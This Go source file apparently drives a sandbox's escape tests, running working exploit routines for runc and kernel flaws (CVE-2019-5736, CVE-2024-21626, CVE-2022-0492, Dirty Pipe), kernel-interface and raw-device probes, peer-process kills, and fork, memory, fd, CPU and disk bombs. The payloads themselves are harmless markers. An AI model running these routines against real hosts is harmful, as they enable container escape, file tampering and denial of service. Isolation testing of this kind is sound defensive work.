// Command attack runs one escape attempt from inside a sandbox and prints
// what it did, one "KEY value" line per step, so that the test can assert
// that the attack ran and what it reached. It never stops at the first
// failure: every step is tried.
//
//	attack exe DURATION [overwrite]  CVE-2019-5736: open other processes' /proc/PID/exe for writing (and overwrite those not busybox's)
//	attack fds MARKER                CVE-2024-21626: walk up from every open fd and the cwd looking for MARKER
//	attack unix LISTFILE             connect to every unix socket in LISTFILE (paths; @abstract names)
//	attack squat SOCKET              take over a unix socket's path: unlink, rename, chmod it, bind beside it
//	attack kernel MAJOR:MINOR TOKEN  raw devices and kernel interfaces of a privileged guest
//	attack cgroup                    CVE-2022-0492: cgroup v1 release_agent
//	attack peer MARKER PIDS...       reach another sandbox: its files via /proc/*/root, its processes by pid
//	attack bomb fork|mem|fd|spin|disk DURATION resource abuse, bounded in time
//	attack dirtypipe FILE OFFSET PAYLOAD CVE-2022-0847: write PAYLOAD into read-only FILE's page cache through a pipe
package main

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func say(k string, v ...any) { fmt.Println(append([]any{k}, v...)...) }

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack exe|fds|unix|squat|kernel|cgroup|peer|bomb|dirtypipe ...")
		os.Exit(2)
	}
	switch os.Args[1] {
	case "exe":
		exe(duration(os.Args[2]), len(os.Args) > 3 && os.Args[3] == "overwrite")
	case "fds":
		fds(os.Args[2])
	case "unix":
		sockets(os.Args[2])
	case "squat":
		squat(os.Args[2])
	case "kernel":
		kernel(os.Args[2], os.Args[3])
	case "cgroup":
		cgroup()
	case "peer":
		peer(os.Args[2], os.Args[3:])
	case "bomb":
		bomb(os.Args[2], duration(os.Args[3]))
	case "dirtypipe":
		off, err := strconv.ParseInt(os.Args[3], 10, 64)
		if err != nil {
			panic(err)
		}
		dirtyPipe(os.Args[2], off, os.Args[4])
	case "child": // a fork bomb's child: fork two more until told to stop
		child()
	default:
		fmt.Fprintln(os.Stderr, "unknown attack", os.Args[1])
		os.Exit(2)
	}
	say("DONE", os.Args[1])
}

func duration(s string) time.Duration {
	d, err := time.ParseDuration(s)
	if err != nil {
		panic(err)
	}
	return d
}

// exe opens every other process's executable through /proc/PID/exe and
// tries to truncate and overwrite it, as the runc exploit did with the
// runtime's binary entering the container, for d. With overwrite, an
// executable that is not busybox's (which the test's own execs need) nor
// the attacker's is overwritten with a script, as the exploit did to runc.
func exe(d time.Duration, overwrite bool) {
	self := os.Getpid()
	seen := map[string]bool{}
	scanned, writable := 0, 0
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(2 * time.Millisecond) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self {
				continue
			}
			p := fmt.Sprintf("/proc/%d/exe", pid)
			target, _ := os.Readlink(p)
			key := fmt.Sprintf("%d:%s", pid, target)
			if seen[key] {
				continue
			}
			seen[key] = true
			scanned++
			// O_PATH first (what the exploit holds while the process
			// exits), then reopen for writing through /proc/self/fd.
			fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				say("EXE-OPEN", pid, target, err)
				continue
			}
			// A descriptor open for writing is the exploit's win (it then
			// waits for the binary to stop running and writes); it is
			// closed unwritten so that the guest's own binaries keep
			// working and later processes are seen.
			w, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", fd), os.O_WRONLY, 0)
			unix.Close(fd)
			if err != nil {
				say("EXE-WRITE-OPEN", pid, target, err)
				continue
			}
			writable++
			say("EXE-WRITABLE-FD", pid, target)
			if overwrite && !strings.Contains(target, "busybox") && !strings.Contains(target, "attack") {
				_, err := w.Write([]byte("#!/bin/sh\necho gvx-exe-overwritten\n"))
				say("EXE-OVERWRITE", pid, target, err)
			}
			w.Close()
		}
	}
	say("EXE-SCANNED", scanned)
	say("EXE-WRITABLE", writable)
}

// fds walks up from every open descriptor that is a directory, and from
// the working directory, 64 levels, and looks for marker in each top
// directory reached and under its tmp/: a host directory leaked into the
// guest (runc's CVE-2024-21626 leaked a host cgroup fd) would show the
// host's /tmp.
func fds(marker string) {
	ents, _ := os.ReadDir("/proc/self/fd")
	checked, found := 0, 0
	try := func(what string, fd int) {
		checked++
		for i := 0; i < 64; i++ {
			up, err := unix.Openat(fd, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
			if err != nil {
				break
			}
			if fd > 2 {
				unix.Close(fd)
			}
			fd = up
		}
		for _, p := range []string{marker, "tmp/" + marker} {
			if err := unix.Fstatat(fd, p, &unix.Stat_t{}, 0); err == nil {
				say("HOST-MARKER-FOUND", what, p)
				found++
			}
		}
		unix.Close(fd)
	}
	for _, e := range ents {
		n, _ := strconv.Atoi(e.Name())
		target, _ := os.Readlink("/proc/self/fd/" + e.Name())
		say("FD", n, target)
		fd, err := unix.Open("/proc/self/fd/"+e.Name(), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			// Not a directory: try the path through it as the CVE did.
			if fd, err = unix.Open("/proc/self/fd/"+e.Name()+"/../../../../../../..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err != nil {
				checked++
				continue
			}
		}
		try("fd "+e.Name(), fd)
	}
	if fd, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0); err == nil {
		cwd, _ := os.Getwd()
		say("CWD", cwd)
		try("cwd", fd)
	}
	if _, err := os.Stat("/tmp/" + marker); err == nil {
		say("HOST-MARKER-FOUND", "/tmp")
		found++
	}
	say("FDS-CHECKED", checked)
	say("HOST-MARKERS", found)
}

// sockets connects to each unix socket named in list.
func sockets(list string) {
	f, err := os.Open(list)
	if err != nil {
		say("UNIX-LIST", err)
		return
	}
	defer f.Close()
	tried, connected := 0, 0
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		name := strings.TrimSpace(sc.Text())
		if name == "" {
			continue
		}
		addr := name
		if strings.HasPrefix(name, "@") {
			addr = "\x00" + name[1:]
		}
		for _, typ := range []int{unix.SOCK_STREAM, unix.SOCK_SEQPACKET, unix.SOCK_DGRAM} {
			tried++
			s, err := unix.Socket(unix.AF_UNIX, typ|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				continue
			}
			err = unix.Connect(s, &unix.SockaddrUnix{Name: addr})
			unix.Close(s)
			if err == nil {
				connected++
				say("UNIX-CONNECTED", name, typ)
			}
		}
	}
	say("UNIX-TRIED", tried)
	say("UNIX-CONNECTS", connected)
}

// squat tries to take a unix socket's path from its owner, so that its
// clients would talk to the attacker: remove it, move it aside, open its
// mode, and bind a socket of its own beside it. SQUAT-TOOK counts the
// steps that succeeded.
func squat(path string) {
	took := 0
	step := func(name string, err error) {
		say("SQUAT", name, fmt.Sprintf("err=%v", err))
		if err == nil {
			took++
		}
	}
	step("chmod", os.Chmod(path, 0o777))
	step("rename", os.Rename(path, path+".moved"))
	step("unlink", unix.Unlink(path))
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err == nil {
		mine := filepath.Join(filepath.Dir(path), "gvx-nat-squat.sock")
		if err = unix.Bind(s, &unix.SockaddrUnix{Name: mine}); err == nil {
			unix.Unlink(mine)
		}
		unix.Close(s)
	}
	step("bind", err)
	say("SQUAT-TOOK", took)
}

// kernel tries what a privileged container on runc could do to the host
// kernel. Each write is harmless if it did reach the host (sysrq 'h'
// prints help; the kmsg line is a token the test looks for).
func kernel(dev, token string) {
	step := func(name string, err error) { say("KERNEL", name, fmt.Sprintf("err=%v", err)) }
	var maj, min uint32
	fmt.Sscanf(dev, "%d:%d", &maj, &min)
	_ = os.MkdirAll("/tmp/attack", 0o755)
	disk := "/tmp/attack/hostdisk"
	os.Remove(disk)
	err := unix.Mknod(disk, unix.S_IFBLK|0o600, int(unix.Mkdev(maj, min)))
	step("mknod-host-disk", err)
	if err == nil {
		b := make([]byte, 4096)
		f, err := os.Open(disk)
		if err == nil {
			var n int
			n, err = f.Read(b)
			f.Close()
			say("KERNEL-DISK-READ", n)
		}
		step("read-host-disk", err)
		_ = os.MkdirAll("/tmp/attack/mnt", 0o755)
		for _, fs := range []string{"ext4", "xfs"} {
			step("mount-host-disk-"+fs, unix.Mount(disk, "/tmp/attack/mnt", fs, unix.MS_RDONLY, ""))
		}
	}
	for _, p := range []string{"/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda"} {
		f, err := os.Open(p)
		if err == nil {
			b := make([]byte, 64)
			_, err = f.Read(b)
			f.Close()
		}
		step("read-"+p, err)
	}
	// /dev/mem via mknod (char 1:1) in case it is not in /dev.
	os.Remove("/tmp/attack/mem")
	if err := unix.Mknod("/tmp/attack/mem", unix.S_IFCHR|0o600, int(unix.Mkdev(1, 1))); err == nil {
		f, err := os.Open("/tmp/attack/mem")
		if err == nil {
			b := make([]byte, 64)
			_, err = f.ReadAt(b, 0x100000)
			f.Close()
		}
		step("read-mknod-dev-mem", err)
	} else {
		step("mknod-dev-mem", err)
	}
	if f, err := os.OpenFile("/dev/kmsg", os.O_RDWR, 0); err == nil {
		_, err = f.Write([]byte("gvx-attack " + token + "\n"))
		f.Close()
		step("write-dev-kmsg", err)
	} else {
		step("open-dev-kmsg", err)
	}
	step("write-sysrq-trigger", os.WriteFile("/proc/sysrq-trigger", []byte("h"), 0))
	step("write-proc-sys-kernel-core_pattern", os.WriteFile("/proc/sys/kernel/core_pattern", []byte("|/tmp/attack/x"), 0))
	step("write-proc-sys-kernel-modprobe", os.WriteFile("/proc/sys/kernel/modprobe", []byte("/tmp/attack/x"), 0))
	step("write-sys-kernel-uevent_helper", os.WriteFile("/sys/kernel/uevent_helper", []byte("/tmp/attack/x"), 0))
	step("write-sys-power-state", os.WriteFile("/sys/power/state", []byte("freeze-not-a-state"), 0))
	img := []byte("not a module")
	_, _, e := unix.Syscall(unix.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&img[0])), uintptr(len(img)), uintptr(unsafe.Pointer(&[]byte("\x00")[0])))
	step("init_module", errno(e))
	if f, err := os.CreateTemp("", "mod"); err == nil {
		f.Write(img)
		_, _, e = unix.Syscall(unix.SYS_FINIT_MODULE, f.Fd(), uintptr(unsafe.Pointer(&[]byte("\x00")[0])), 0)
		f.Close()
		step("finit_module", errno(e))
	}
	_, _, e = unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0, 0, 0) // no segments: loads nothing
	step("kexec_load", errno(e))
	_, _, e = unix.Syscall6(unix.SYS_KEXEC_FILE_LOAD, ^uintptr(0), ^uintptr(0), 0, 0, 0, 0)
	step("kexec_file_load", errno(e))
	step("ptrace-attach-pid-1", unix.PtraceAttach(1))
	step("iopl", errno2(unix.Syscall(unix.SYS_IOPL, 3, 0, 0)))
	// /proc/1/root and every process's root: the guest's own.
	roots, _ := filepath.Glob("/proc/[0-9]*/root")
	reach := 0
	for _, r := range roots {
		if _, err := os.Stat(filepath.Join(r, "tmp", token)); err == nil {
			say("HOST-MARKER-FOUND", r)
			reach++
		}
	}
	say("KERNEL-ROOTS-CHECKED", len(roots))
	say("HOST-MARKERS", reach)
}

func errno(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func errno2(_, _ uintptr, e syscall.Errno) error { return errno(e) }

// cgroup mounts a cgroup v1 hierarchy and sets release_agent and
// notify_on_release, the CVE-2022-0492 escape: on a vulnerable runc host
// the host kernel would run the agent as host root.
func cgroup() {
	step := func(name string, err error) { say("CGROUP", name, fmt.Sprintf("err=%v", err)) }
	dir := "/tmp/attack-cg"
	_ = os.MkdirAll(dir, 0o755)
	mounted := false
	for _, c := range []string{"memory", "rdma", "pids", "cpu"} {
		err := unix.Mount("cgroup", dir, "cgroup", 0, c)
		step("mount-cgroup-v1-"+c, err)
		if err == nil {
			mounted = true
			break
		}
	}
	if !mounted {
		step("mount-cgroup2", unix.Mount("cgroup2", dir, "cgroup2", 0, ""))
		say("CGROUP-NOT-MOUNTED")
		return
	}
	say("CGROUP-MOUNTED")
	step("write-release_agent", os.WriteFile(filepath.Join(dir, "release_agent"), []byte("/tmp/attack-payload"), 0))
	_ = os.MkdirAll(filepath.Join(dir, "x"), 0o755)
	step("write-notify_on_release", os.WriteFile(filepath.Join(dir, "x", "notify_on_release"), []byte("1"), 0))
	cmd := exec.Command("/bin/sh", "-c", "echo $$ > "+filepath.Join(dir, "x", "cgroup.procs"))
	step("join-and-exit", cmd.Run())
	if b, err := os.ReadFile(filepath.Join(dir, "release_agent")); err == nil {
		say("CGROUP-RELEASE-AGENT", strings.TrimSpace(string(b)))
	}
}

// peer looks for another sandbox: marker files through every process's
// root, and its processes by their host pids (signal 0, then SIGKILL).
func peer(marker string, pids []string) {
	roots, _ := filepath.Glob("/proc/[0-9]*/root")
	found := 0
	for _, r := range roots {
		if _, err := os.Stat(filepath.Join(r, marker)); err == nil {
			found++
			say("PEER-MARKER-FOUND", r)
		}
	}
	if _, err := os.Stat("/" + marker); err == nil {
		found++
		say("PEER-MARKER-FOUND", "/")
	}
	for _, p := range pids {
		pid, _ := strconv.Atoi(p)
		say("PEER-KILL", pid, fmt.Sprintf("err=%v", unix.Kill(pid, unix.SIGKILL)))
	}
	say("PEER-KILL-ALL", fmt.Sprintf("err=%v", unix.Kill(-1, unix.SIGKILL)))
	say("PEER-ROOTS-CHECKED", len(roots))
	say("PEER-MARKERS", found)
}

// bomb abuses one resource for d, then reports how far it got.
func bomb(kind string, d time.Duration) {
	end := time.Now().Add(d)
	switch kind {
	case "fork":
		cmd := exec.Command("/proc/self/exe", "child")
		cmd.Env = append(os.Environ(), "ATTACK_UNTIL="+strconv.FormatInt(end.UnixNano(), 10))
		err := cmd.Start()
		say("BOMB-FORK-START", fmt.Sprintf("err=%v", err))
		time.Sleep(time.Until(end))
		ents, _ := os.ReadDir("/proc")
		n := 0
		for _, e := range ents {
			if _, err := strconv.Atoi(e.Name()); err == nil {
				n++
			}
		}
		say("BOMB-PROCS", n)
		_ = unix.Kill(-1, unix.SIGKILL) // as root in the guest: everything but us and init
	case "mem":
		var keep [][]byte
		total := 0
		for time.Now().Before(end) {
			b := make([]byte, 16<<20)
			for i := 0; i < len(b); i += 4096 {
				b[i] = 1
			}
			keep = append(keep, b)
			total += len(b)
			say("BOMB-MEM-MIB", total>>20)
		}
		say("BOMB-MEM-HELD-MIB", total>>20)
	case "fd":
		var l unix.Rlimit
		_ = unix.Getrlimit(unix.RLIMIT_NOFILE, &l)
		l.Cur = l.Max
		_ = unix.Setrlimit(unix.RLIMIT_NOFILE, &l)
		n := 0
		var err error
		for time.Now().Before(end) {
			var fd int
			if fd, err = unix.Open("/dev/null", unix.O_RDONLY, 0); err != nil {
				break
			}
			_ = fd
			n++
		}
		say("BOMB-FDS", n, fmt.Sprintf("err=%v", err))
		// Sleep by syscall: the Go runtime's poller needs a descriptor.
		ts := unix.NsecToTimespec(int64(time.Until(end)))
		_ = unix.Nanosleep(&ts, nil)
	case "spin":
		n := runtime.NumCPU()
		for i := 0; i < n; i++ {
			go func() {
				for x := 0; time.Now().Before(end); x++ {
				}
			}()
		}
		say("BOMB-SPIN-THREADS", n)
		time.Sleep(time.Until(end))
	case "disk":
		// Fill the volume's blocks, then its inodes, empty it and again,
		// until d is over: sustained writes, not one burst.
		b := make([]byte, 1<<20)
		mib, files, rounds := 0, 0, 0
		var err error
		for rounds == 0 || time.Now().Before(end) {
			rounds++
			var f *os.File
			if f, err = os.Create("/data/fill"); err == nil {
				for time.Now().Before(end) {
					if _, err = f.Write(b); err != nil {
						break
					}
					mib++
				}
				f.Close()
			}
			say("BOMB-DISK-MIB", mib, fmt.Sprintf("err=%v", err))
			n := 0
			for ; time.Now().Before(end); n++ {
				if err = os.WriteFile(fmt.Sprintf("/data/i%d", n), nil, 0o644); err != nil {
					break
				}
			}
			files += n
			say("BOMB-INODES", files, fmt.Sprintf("err=%v", err))
			os.Remove("/data/fill")
			for i := 0; i < n; i++ {
				os.Remove(fmt.Sprintf("/data/i%d", i))
			}
		}
		say("BOMB-DISK-ROUNDS", rounds)
	}
}

// child starts two copies of itself (retrying while the sandbox refuses)
// until ATTACK_UNTIL, then sleeps: the process count doubles per
// generation.
func child() {
	until, _ := strconv.ParseInt(os.Getenv("ATTACK_UNTIL"), 10, 64)
	for started := 0; started < 2 && time.Now().UnixNano() < until; {
		if exec.Command("/proc/self/exe", "child").Start() == nil {
			started++
		} else {
			time.Sleep(10 * time.Millisecond)
		}
	}
	time.Sleep(time.Hour)
}

// dirtyPipe is CVE-2022-0847 ("Dirty Pipe"): every buffer of a pipe is
// filled and drained (on a vulnerable kernel that leaves each marked
// mergeable), one byte of file at off-1 is spliced into the pipe (its
// buffer then refers to the file's page cache page), and payload is
// written into the pipe, which a vulnerable kernel merges into that page:
// the file reads payload at off, read-only mount, mode and owner
// notwithstanding. It reports each step and what the file reads at off
// afterwards, through a new descriptor.
func dirtyPipe(file string, off int64, payload string) {
	step := func(name string, n int, err error) { say("DIRTYPIPE", name, n, fmt.Sprintf("err=%v", err)) }
	wf, werr := os.OpenFile(file, os.O_WRONLY, 0)
	step("open-for-writing", 0, werr)
	if werr == nil {
		wf.Close()
	}
	var p [2]int
	if err := unix.Pipe(p[:]); err != nil {
		step("pipe", 0, err)
		return
	}
	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
	step("pipe-size", size, err)
	if size <= 0 {
		size = 65536
	}
	buf := make([]byte, 4096)
	filled, drained := 0, 0
	for filled < size {
		n, err := unix.Write(p[1], buf[:min(len(buf), size-filled)])
		if n <= 0 || err != nil {
			break
		}
		filled += n
	}
	for drained < filled {
		n, err := unix.Read(p[0], buf)
		if n <= 0 || err != nil {
			break
		}
		drained += n
	}
	step("filled", filled, nil)
	step("drained", drained, nil)
	f, err := os.Open(file)
	if err != nil {
		step("open", 0, err)
		return
	}
	defer f.Close()
	start := off - 1
	n, err := unix.Splice(int(f.Fd()), &start, p[1], nil, 1, 0)
	step("splice", int(n), err)
	w, err := unix.Write(p[1], []byte(payload))
	step("write", w, err)
	unix.Close(p[0])
	unix.Close(p[1])
	g, err := os.Open(file)
	if err != nil {
		step("reopen", 0, err)
		return
	}
	defer g.Close()
	got := make([]byte, len(payload))
	r, err := g.ReadAt(got, off)
	step("reread", r, err)
	say("DIRTYPIPE-READS", fmt.Sprintf("%q", got[:r]))
	say("DIRTYPIPE-CHANGED", string(got[:r]) == payload)
}
